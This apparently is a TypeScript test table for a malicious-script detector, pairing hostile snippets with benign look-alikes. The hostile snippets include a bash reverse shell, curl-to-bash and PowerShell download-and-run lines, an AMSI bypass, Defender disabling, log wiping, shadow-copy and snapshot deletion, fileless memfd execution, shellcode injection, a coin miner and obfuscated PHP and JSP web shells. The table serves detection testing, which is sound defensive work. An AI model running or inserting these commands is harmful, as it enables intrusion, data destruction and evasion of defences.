// What scripts do on a machine, in the shortest form that shows it, and what looks like it. Hosts are reserved ones.
import type { ScriptLanguage } from '../../../src/file/formats/script/language.ts'
import type { CaseTable } from '../detector-table.ts'

type Text = readonly [ScriptLanguage, string]

const HOST = 'https://files.example'

const REMOTE_CONTROL = `<?php $cmd = escapeshellcmd($_POST["c"]);
if ($how == 1) system("ls"); if ($how == 2) passthru("ls"); if ($how == 3) shell_exec("ls");
$d = opendir("."); while ($f = readdir($d)) echo $f;
move_uploaded_file($_FILES["f"]["tmp_name"], "x"); chmod("x", 0644); unlink("y");
echo php_uname(); mysql_connect("localhost", "a", "b"); $s = fsockopen("localhost", 80); echo ini_get("safe_mode"); ?>`

export const ACTS: CaseTable<Text> = {
  script_runs_program_from_memory: {
    hits: {
      'by the call of Python': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv(f"/proc/self/fd/{fd}", ["a"])',
      ],
      'by the descriptor itself': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execve(fd, ["a"], {})',
      ],
      'by another path to it': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv("/dev/fd/" + str(fd), ["a"])',
      ],
      'by a path that is put together': [
        'python',
        'import os\nfd = os.memfd_create("")\nos.write(fd, body)\nos.execv("/proc/" + str(os.getpid()) + "/fd/" + str(fd), ["a"])',
      ],
      'by the number of the call': [
        'perl',
        'my $fd = syscall(319, my $n = "", 1); print {$out} $body; exec {"/proc/$$/fd/$fd"} "a";',
      ],
    },
    misses: {
      'memory that is shared': ['python', 'import os, mmap\nfd = os.memfd_create("ring")\nm = mmap.mmap(fd, 4096)'],
      'a program on a disk beside memory': [
        'python',
        'import os\nfd = os.memfd_create("log")\nos.set_inheritable(fd, True)\nos.execve("/usr/bin/less", ["less"], {})',
      ],
      'a file in memory that is sent': [
        'python',
        'import os\nfd = os.memfd_create("page")\nos.write(fd, page)\nos.sendfile(out, fd, 0, len(page))',
      ],
      'open files that are passed over': ['shell', 'ls /dev/fd/ | wc -l'],
      'open files that are counted': ['python', 'import os\nprint(len(os.listdir("/proc/self/fd/")))'],
    },
  },
  script_opens_reverse_shell: {
    hits: { 'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] },
    misses: {
      'a port that is tried': ['shell', 'timeout 1 bash -c "</dev/tcp/203.0.113.7/443" && echo open'],
      'a shell that stays here': ['shell', 'bash -i'],
    },
  },
  script_downloads_and_runs: {
    hits: {
      'saved and started': [
        'powershell',
        `Invoke-WebRequest ${HOST}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe`,
      ],
    },
    misses: {
      'saved alone': ['powershell', `Invoke-WebRequest ${HOST}/a.csv -OutFile a.csv`],
      'started alone': ['powershell', 'Start-Process notepad.exe'],
    },
  },
  script_runs_downloaded_text: {
    hits: { 'run without saving': ['powershell', `IEX (New-Object Net.WebClient).DownloadString('${HOST}/a.ps1')`] },
    misses: {
      'text that is shown': ['powershell', `(New-Object Net.WebClient).DownloadString('${HOST}/a.txt') | Write-Host`],
      'a command of its own': ['powershell', "Invoke-Expression 'Get-Date'"],
    },
  },
  script_pipes_download_to_shell: {
    hits: { 'a page into a shell': ['shell', 'curl -s http://203.0.113.7/a | bash'] },
    misses: {
      'a page into a file': ['shell', 'curl -s https://files.example/a -o a.txt'],
      'a file into a shell': ['shell', 'cat setup.sh | bash'],
    },
  },
  script_runs_download_from_temp: {
    hits: {
      'fetched, made executable, started': ['shell', 'wget http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a'],
    },
    misses: {
      'fetched to be kept': ['shell', 'wget https://files.example/a.tar.gz -O /opt/a.tar.gz'],
      'started from its build': ['shell', 'chmod +x ./build/a; ./build/a'],
    },
  },
  script_bypasses_amsi: {
    hits: {
      'its failure is set': [
        'powershell',
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      ],
    },
    misses: { 'a question about its state': ['powershell', 'Get-MpComputerStatus | Select-Object AMServiceEnabled'] },
  },
  script_loads_assembly_from_memory: {
    hits: {
      'decoded and called': [
        'powershell',
        '$b=[Convert]::FromBase64String($t); $a=[System.Reflection.Assembly]::Load($b); $a.EntryPoint.Invoke($null,$null)',
      ],
    },
    misses: {
      'a library of the disk': ['powershell', "Add-Type -Path 'C:\\Program Files\\A\\a.dll'"],
      'a library by its name': ['powershell', 'Add-Type -AssemblyName System.Windows.Forms'],
    },
  },
  script_is_web_shell: {
    hits: {
      'PHP that evaluates a parameter': ['php', '<?php @eval($_POST["x"]); ?>'],
      'PHP that starts a parameter': ['php', '<?php system($_GET["cmd"]); ?>'],
      'a name that is cut together': ['php', '<?php $f = substr_replace("sysxx", "tem", 3); $f($_POST["q"]); ?>'],
      'a name under XOR': ['php', '<?php $f = (",&,"^"___") . "tem"; $f($_GET["q"]); ?>'],
      'a name in a table': ['php', '<?php $list["k"] = "passthru"; $all[] = $list; $all[0]["k"]($_POST["q"]); ?>'],
      'a callback that the request names': ['php', '<?php $f = $_REQUEST["f"]; uasort($_POST["list"], $f); ?>'],
      'a callback that compares': ['php', '<?php array_udiff_assoc(array($_GET["q"]), array(1), "assert"); ?>'],
      'a header as code': ['php', '<?php eval(getenv("HTTP_X_TOKEN")); ?>'],
      'an element of a name of a name': ['php', `<?php $n = "_GET"; $${'{'}$n}["f"]($${'{'}$n}["q"]); ?>`],
      'PHP that offers everything': ['php', REMOTE_CONTROL],
      'a page of Java that offers everything': [
        'javascript',
        `<%@ page import="java.io.*" %><% String c = request.getParameter("c");
Process p = Runtime.getRuntime().exec(new String[] { "x" });
for (File f : new File(request.getParameter("d")).listFiles()) { out.print(f); }
new FileOutputStream(request.getParameter("t")); new File("t").delete();
out.print(System.getProperty("os.name")); %>`,
      ],
    },
    misses: {
      'PHP that shows a parameter': ['php', '<?php echo htmlspecialchars($_GET["name"]); ?>'],
      'PHP that starts a program': ['php', '<?php system("uptime"); ?>'],
      'a callback that is named outright': ['php', '<?php $ids = array_map("intval", $_POST["ids"]); ?>'],
      'a closure over what was sent': [
        'php',
        '<?php $v = $_POST["v"]; array_map(function ($x) { return $x; }, $v); ?>',
      ],
      'a callback out of a list': ['php', '<?php call_user_func($actions[$_GET["do"]]); ?>'],
      'a name out of a list': ['php', '<?php $f = $handlers["save"]; $f($_POST["q"]); ?>'],
      'two numbers under XOR': ['php', '<?php $n = $a ^ $b; echo $n; ?>'],
      'a callback of the page': ['php', '<?php usort($_POST["list"], "by_name"); ?>'],
      'a header that is shown': ['php', '<?php echo htmlspecialchars(getenv("HTTP_HOST")); ?>'],
      'a page of Java that lists a folder': [
        'javascript',
        '<%@ page import="java.io.*" %><% String d = request.getParameter("d"); for (File f : new File("/srv").listFiles()) out.print(f); %>',
      ],
      'a method of an object': ['php', '<?php $form->validate($_POST["name"]); ?>'],
      'a file manager that runs nothing': [
        'php',
        REMOTE_CONTROL.replace(/(?:system|passthru|shell_exec)\([^)]*\);/g, ''),
      ],
    },
  },
  script_disables_defences: {
    hits: { 'the scanner is switched off': ['powershell', 'Set-MpPreference -DisableRealtimeMonitoring $true'] },
    misses: { 'its state is asked': ['powershell', 'Get-MpPreference'] },
  },
  script_wipes_logs: {
    hits: { 'the log of security': ['batch', 'wevtutil cl Security'] },
    misses: { 'a log is read': ['batch', 'wevtutil qe Security /c:5'] },
  },
  script_persists: {
    hits: {
      'a key that runs at logon': [
        'batch',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "%APPDATA%\\a.exe" /f',
      ],
    },
    misses: { 'the key is read': ['batch', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'] },
  },
  script_destroys_recovery: {
    hits: {
      'shadow copies are deleted': ['batch', 'vssadmin delete shadows /all /quiet'],
      'every snapshot of ZFS': ['shell', 'zfs list -H -t snapshot -o name | xargs -n1 zfs destroy'],
      'every snapshot of Btrfs': [
        'shell',
        `for s in $(btrfs subvolume list -s / | awk '{print $NF}'); do btrfs subvolume delete "/$s"; done`,
      ],
    },
    misses: {
      'shadow copies are listed': ['batch', 'vssadmin list shadows'],
      'snapshots are pruned by name': [
        'shell',
        'zfs list -H -t snapshot -o name | grep auto-2023 | head -n -7 | xargs -n1 zfs destroy',
      ],
      'snapshots are counted': ['shell', 'btrfs subvolume list -s / | wc -l'],
    },
  },
  script_mines_coins: {
    hits: {
      'a miner and its pool': ['shell', './xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1'],
    },
    misses: { 'a text about mining': ['shell', 'echo "mining is switched off"'] },
  },
  script_is_encoded: {
    hits: { 'the encoder of Microsoft': ['vbscript', '#@~^EAAAAA==\u007f\u007f^#~@'] },
    misses: { 'plain text': ['vbscript', 'MsgBox "hello"'] },
  },
  script_uses_system_tool_to_fetch: {
    hits: { certutil: ['batch', 'certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe'] },
    misses: { 'a hash by certutil': ['batch', 'certutil -hashfile a.exe SHA256'] },
  },
  script_injects_code: {
    hits: {
      'memory, code and a thread': [
        'powershell',
        '$p=[W]::VirtualAlloc(0,4096,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,$b.Length); [W]::CreateThread(0,0,$p,0,0,0)',
      ],
    },
    misses: { 'memory of an array': ['powershell', '$a = New-Object byte[] 4096; $a[0] = 1'] },
  },
}
